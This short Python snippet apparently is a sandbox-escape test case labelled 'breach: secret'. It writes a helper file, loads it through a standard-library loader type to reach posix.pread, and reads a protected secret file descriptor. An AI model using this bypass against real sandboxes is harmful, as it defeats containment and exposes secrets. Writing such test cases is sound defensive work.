# A loader of the standard library executes a file of the work directory.
# breach: secret
import json
with open("prepared.py", "w") as file:
    _ = file.write("import posix\nread = posix.pread")
loader = type(json.__loader__)("prepared", "prepared.py")
if hasattr(loader, "load_module"):  # up to 3.14
    module = loader.load_module()
else:
    module = type(json)("prepared")
    loader.exec_module(module)
module.read(SECRET_FD, 100, 0)
